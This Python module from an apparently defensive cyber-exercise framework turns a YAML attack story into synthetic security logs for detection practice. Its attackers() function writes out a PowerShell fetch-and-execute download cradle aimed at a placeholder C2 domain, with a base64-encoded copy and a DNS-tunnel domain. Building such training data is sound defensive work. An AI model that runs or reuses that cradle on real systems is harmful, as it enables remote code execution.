"""The story of an exercise, read from its YAML file and filled in with the institutions that play it."""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import yaml

from tocsin.exercise.clock import Clock
from tocsin.exercise.events import (
    SYSTEM,
    Content,
    digest,
    guid,
    request,
    syslog,
    windows,
    zeek_conn,
    zeek_dns,
    zeek_http,
)
from tocsin.exercise.house import Host, House
from tocsin.exercise.party import ExerciseError, Outside, seeded
from tocsin.exercise.sheet import Mark

STORY = Path(__file__).with_name("carillon.yaml")
STARTER_RULES = Path(__file__).parents[1] / "rules_starter"
EVERYDAY = "everyday"
NAME = re.compile(r"\{([a-z_0-9]+(?:\.[a-z_0-9]+)?)\}")


@dataclass(frozen=True, slots=True)
class Stage:
    """Name one part of the story."""

    id: str
    title: str
    techniques: tuple[str, ...]
    steps: tuple[Mapping[str, Any], ...]


@cache
def script() -> Mapping[str, Any]:
    """Read the story's file once."""
    text: Mapping[str, Any] = yaml.load(STORY.read_bytes(), Loader=yaml.CSafeLoader)
    return text


@cache
def rule_id(name: str) -> str:
    """Give the id of a starter rule by its file name."""
    found = re.search(r"^id: (\S+)$", (STARTER_RULES / f"{name}.yml").read_text(encoding="utf-8"), re.MULTILINE)
    if found is None:
        raise ExerciseError(f"the starter rule {name} has no id")
    return found[1]


def _encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def attackers(outside: Outside) -> dict[str, str]:
    """Name the machines, domains and texts of those who attack; none of them lies within the chart."""
    scan, shell, command = outside.network(), outside.network(), outside.network()
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://menu.banquet-service.example/static/menu.txt')"
    return {
        "out.scan_ip": str(scan[66]),
        "out.shell_ip": str(shell[143]),
        "out.c2_ip": str(command[20]),
        "out.c2": "menu.banquet-service.example",
        "out.tunnel": "ns.cloud-telemetry-cache.example",
        "out.cradle": cradle,
        "out.cradle_b64": _encoded(cradle),
        "out.inventory_b64": _encoded(
            "Get-CimInstance Win32_Product | Export-Csv C:\\ProgramData\\Monitoring\\software.csv"
        ),
    }


def _names(house: House) -> dict[str, str]:
    person, desk, server = house.people[0], house.people[0].host, house.windows_servers[2]
    names = {
        "code": house.code,
        "domain": house.domain,
        "nt": house.nt,
        "user": person.login,
        "sid": person.sid,
        "mail": person.mail,
        "account": f"{house.nt}\\{person.login}",
        "admin": house.admins[0].login,
        "ws": desk.name,
        "ws_ip": desk.ip,
        "ws_short": desk.short.upper(),
        "srv": server.name,
        "srv_ip": server.ip,
        "dc": house.controller.name,
        "dc_ip": house.controller.ip,
        "web_ip": house.web.ip,
    }
    return {f"{house.role}.{name}": value for name, value in names.items()}


def _hosts(house: House) -> dict[str, Host]:
    hosts = {
        "ws": house.people[0].host,
        "srv": house.windows_servers[2],
        "web": house.web,
        "db": house.linux_servers[1],
    }
    return {f"{house.role}.{name}": host for name, host in hosts.items()}


Happening = tuple[House, str, int, Content, Mark]


class Story:
    """Play the story in the houses of the cast."""

    def __init__(self, houses: Sequence[House], outside: Outside, clock: Clock, seed: int) -> None:
        self._houses = {house.role: house for house in houses}
        self._clock = clock
        self._seed = seed
        self._names = attackers(outside)
        self._hosts: dict[str, Host] = {}
        for house in houses:
            self._names |= _names(house)
            self._hosts |= _hosts(house)

    def stages(self) -> list[Stage]:
        """Give the stages with their titles filled in, the everyday acts last."""
        told = [
            Stage(part["id"], self._fill(part["title"], {}), tuple(part["techniques"]), tuple(part["steps"]))
            for part in script()["stages"]
        ]
        return [*told, Stage(EVERYDAY, "Everyday acts that look like the story", (), tuple(script()[EVERYDAY]))]

    def happenings(self) -> Iterator[Happening]:
        """Yield what happens: in whose log, which one, when, what, and as a part of what."""
        for stage in self.stages():
            for number, step in enumerate(stage.steps):
                if all(role in self._houses for role in (step["in"], *step.get("with", ()))):
                    yield from self._step(stage, step, seeded(self._seed, "story", stage.id, str(number)))

    def _step(self, stage: Stage, step: Mapping[str, Any], rng: random.Random) -> Iterator[Happening]:
        house = self._houses[step["in"]]
        codes = sorted({house.code, *(self._houses[role].code for role in step.get("with", ()))})
        rules = tuple(rule_id(name) for name in step.get("rules", ()))
        when = self._clock.working_day(*step["at"])
        repeat = step.get("repeat", {"times": 1, "every": 0})
        for _ in range(repeat["times"]):
            filled = self._filled(step, _drawn(rng))
            content = BUILDERS[step["log"]](self, filled, rng)
            mark = Mark(
                stage.id, rules, stage.techniques, tuple(codes), tuple(filled.get("subject") or _subject(content))
            )
            if when < self._clock.end:
                yield house, step["log"], when, content, mark
            when += int(repeat["every"] * 1000 * (0.8 + 0.4 * rng.random()))

    def _filled(self, value: Any, drawn: Mapping[str, str]) -> Any:
        if isinstance(value, str):
            return self._fill(value, drawn)
        if isinstance(value, dict):
            return {key: self._filled(item, drawn) for key, item in value.items()}
        if isinstance(value, list):
            return [self._filled(item, drawn) for item in value]
        return value

    def _fill(self, text: str, drawn: Mapping[str, str]) -> str:
        def name(found: re.Match[str]) -> str:
            known = drawn.get(found[1]) or self._names.get(found[1])
            if known is None:
                raise ExerciseError(f"{STORY.name} speaks of {found[0]}, which nobody defines")
            return known

        return NAME.sub(name, text)

    def host(self, name: str) -> Host:
        """Give the machine a step speaks of."""
        return self._hosts[name]


BASE32 = "abcdefghijklmnopqrstuvwxyz234567"


def _drawn(rng: random.Random) -> dict[str, str]:
    return {
        "n": str(rng.randrange(10, 999)),
        "port": str(rng.randrange(1025, 65500)),
        "hex": f"{rng.getrandbits(128):032x}",
        "base32": "".join(rng.choices(BASE32, k=52)),
        "base32b": "".join(rng.choices(BASE32, k=rng.randrange(34, 52))),
    }


def _subject(content: Content) -> tuple[str, str]:
    if "row" in content:
        return "address", content["row"].split("\t")[1]
    return ("address", content["ip"]) if "ip" in content else ("host", content["host"])


def _windows(story: Story, step: Mapping[str, Any], rng: random.Random) -> Content:
    host, code = story.host(step["host"]), int(step["code"])
    data: dict[str, Any] = dict(step["data"])
    if code in {1, 3, 11, 13, 17, 22}:
        data = {"ProcessGuid": guid(host, rng), "ProcessId": str(rng.randrange(400, 20000, 4)), **data}
    if code == 1:
        level = "System" if data["User"] == SYSTEM else "High"
        data |= {"Hashes": digest(data["Image"]), "ParentCommandLine": data["ParentImage"], "IntegrityLevel": level}
    return windows(host, code, data)


def _syslog(story: Story, step: Mapping[str, Any], _rng: random.Random) -> Content:
    return syslog(story.host(step["host"]), step["program"], step["pid"], step["text"])


def _access(_story: Story, step: Mapping[str, Any], _rng: random.Random) -> Content:
    return request(step["ip"], step["method"], step["url"], step["status"], step["bytes"], step["agent"])


def _dns(_story: Story, step: Mapping[str, Any], rng: random.Random) -> Content:
    return zeek_dns(rng, step["client"], step["server"], step["query"], step["qtype"], step["answers"], 1)


def _conn(_story: Story, step: Mapping[str, Any], rng: random.Random) -> Content:
    return zeek_conn(rng, step["client"], step["server"], step["port"], step["service"], step["sent"], step["received"])


def _http(_story: Story, step: Mapping[str, Any], rng: random.Random) -> Content:
    return zeek_http(rng, step["client"], step["server"], step["hit"])


BUILDERS: Mapping[str, Callable[[Story, Mapping[str, Any], random.Random], Content]] = {
    "windows": _windows,
    "syslog": _syslog,
    "access": _access,
    "zeek_dns": _dns,
    "zeek_conn": _conn,
    "zeek_http": _http,
}
